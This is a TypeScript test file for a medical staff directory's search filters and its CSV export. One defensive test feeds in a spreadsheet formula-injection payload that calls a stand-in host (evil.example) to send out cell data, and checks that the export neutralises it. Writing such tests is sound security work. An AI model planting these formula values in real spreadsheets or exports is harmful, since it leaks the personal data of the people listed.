// The staff directory's filters on a real database, and the CSV export honouring them.
import { eq } from "drizzle-orm";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { applications } from "~/db/schema/index";
import { testEngines } from "~/tests/helpers/test-db";
import type { DatabaseHandle } from "~/db/client.server";
import { exportDirectoryCsv, searchDirectory } from "./directory.server";
import type { DirectoryFilter } from "./directory.server";
import { upsertApplications } from "./import-members.server";
import { checkImportRow, memberCsvTemplate } from "./member-csv";

const now = new Date("2026-11-24T15:00:00Z");
const example = Object.fromEntries(memberCsvTemplate[0].map((c, i) => [c, memberCsvTemplate[1][i]]));
const input = (changes: Record<string, string>) => {
  const checked = checkImportRow({ ...example, ...changes }, now);
  if (!checked.ok) throw new Error(JSON.stringify(checked.problems));
  return checked.input;
};

describe.each(testEngines())("directory filters on $name", (engine) => {
  let handle: DatabaseHandle;
  beforeAll(async () => {
    handle = await engine.open();
    await upsertApplications(
      handle.db,
      [
        input({ name: "Dr. Step Passed", email: "a@example.org", graduation_year: "2024", specialties: "Family medicine; Pediatrics" }),
        input({ name: "Dr. Step Failed", email: "b@example.org", step2ck: "failed", graduation_year: "2015", specialties: "Psychiatry" }),
        input({
          name: "Dr. Comlex",
          email: "c@example.org",
          degree: "DO",
          step1: "not-taken",
          step2ck: "",
          level1: "passed",
          level2ce: "passed",
          graduation_year: "2010",
          specialties: "Internal medicine",
        }),
        input({ name: "Dr. Certified", email: "d@example.org", degree: "IMG", ecfmg_certified: "yes", step2ck: "pending", graduation_year: "2020", specialties: "" }),
      ],
      now,
    );
    await handle.db.update(applications).set({ verifiedAt: now, verifiedBy: "staff@example.org" }).where(eq(applications.email, "c@example.org"));
  });
  afterAll(async () => handle?.close());

  const names = async (f: DirectoryFilter) => (await searchDirectory(handle.db, f, { offset: 0, limit: 50 })).rows.map((r) => r.name).sort();

  it.each<[string, DirectoryFilter, string[]]>([
    ["Step 2 CK passed", { exam: { key: "step2ck", result: "passed" } }, ["Dr. Step Passed"]],
    ["Step 2 CK not passed (failed, pending or not taken)", { exam: { key: "step2ck", result: "not-passed" } }, ["Dr. Certified", "Dr. Comlex", "Dr. Step Failed"]],
    ["Step 2 CK waiting for the result", { exam: { key: "step2ck", result: "pending" } }, ["Dr. Certified"]],
    ["COMLEX Level 2-CE passed", { exam: { key: "level2ce", result: "passed" } }, ["Dr. Comlex"]],
    ["ECFMG certified", { ecfmg: "yes" }, ["Dr. Certified"]],
    ["a specialty, by part of its name in any case", { specialty: "pediat" }, ["Dr. Step Passed"]],
    ["a specialty with a LIKE wildcard in it", { specialty: "%" }, []],
    ["verified documents", { verified: true }, ["Dr. Comlex"]],
    ["not verified", { verified: false }, ["Dr. Certified", "Dr. Step Failed", "Dr. Step Passed"]],
    ["graduated 2015 to 2020", { graduatedFrom: 2015, graduatedTo: 2020 }, ["Dr. Certified", "Dr. Step Failed"]],
    ["a typo-tolerant name search with a filter", { q: "Dr Step", exam: { key: "step2ck", result: "failed" } }, ["Dr. Step Failed"]],
  ])("filters by %s", async (_name, filter, expected) => {
    expect(await names(filter)).toEqual(expected);
  });

  it("finds a person by every word of the search, with typos, and by an exact e-mail address", async () => {
    expect(await names({ q: "step pased" })).toEqual(["Dr. Step Passed"]);
    expect(await names({ q: "certifed dr" })).toEqual(["Dr. Certified"]);
    // Each word must match something: "Comlex" matches, "Mendes" matches no one.
    expect(await names({ q: "Comlex Mendes" })).toEqual([]);
    expect(await names({ q: "D@EXAMPLE.ORG" })).toEqual(["Dr. Certified"]);
    // The other filters still apply; with no exact match, similar addresses are offered.
    expect(await names({ q: "c@example.org", verified: false })).not.toContain("Dr. Comlex");
  });

  it("orders a text search by closeness", async () => {
    const { rows } = await searchDirectory(handle.db, { q: "Comlex" }, { offset: 0, limit: 50 });
    expect(rows[0].name).toBe("Dr. Comlex");
  });

  it("exports only the filtered people", async () => {
    let csv = "";
    for await (const chunk of exportDirectoryCsv(handle.db, { ecfmg: "yes" })) csv += chunk;
    const lines = csv.trim().split("\n");
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain("d@example.org");
  });

  it("exports names and schools that start like a formula as inert text that imports back unchanged", async () => {
    const hyperlink = '=HYPERLINK("https://evil.example/?d="&B2,"Open")';
    await upsertApplications(handle.db, [input({ name: hyperlink, email: "formula@example.org", school: "@SUM(A1:A3) University" })], now);
    let csv = "";
    for await (const chunk of exportDirectoryCsv(handle.db, {})) csv += chunk;
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&B2,""Open"")"`);
    const record = (parse(csv, { columns: true }) as Record<string, string>[]).find((r) => r.email === "formula@example.org")!;
    expect(record.name).toBe(`'${hyperlink}`);
    expect(record.school).toBe("'@SUM(A1:A3) University");
    // No cell of the whole file starts with a formula character.
    for (const cells of parse(csv) as string[][]) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const again = checkImportRow(record, now);
    expect(again).toMatchObject({ ok: true, input: { name: hyperlink, schoolName: "@SUM(A1:A3) University" } });
  });
});
